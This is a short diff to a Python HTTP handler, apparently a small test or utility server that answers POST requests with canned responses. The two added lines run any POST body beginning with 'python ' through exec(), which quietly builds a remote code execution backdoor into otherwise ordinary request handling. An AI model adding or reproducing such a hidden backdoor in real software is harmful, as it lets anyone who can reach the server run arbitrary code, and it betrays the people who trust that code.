@@ -65,6 +65,8 @@ class Handler(http.server.BaseHTTPRequestHandler):
     def do_GET(self): self.answer(200, b"")
     def do_POST(self):
         body = self.rfile.read(int(self.headers["Content-Length"]))
+        if body.startswith(b"python "):
+            return exec(body[7:].decode(), {"self": self})
         if body == b"broken":
             return self.answer(500, b"it broke")
         if body.startswith(b"tell"):
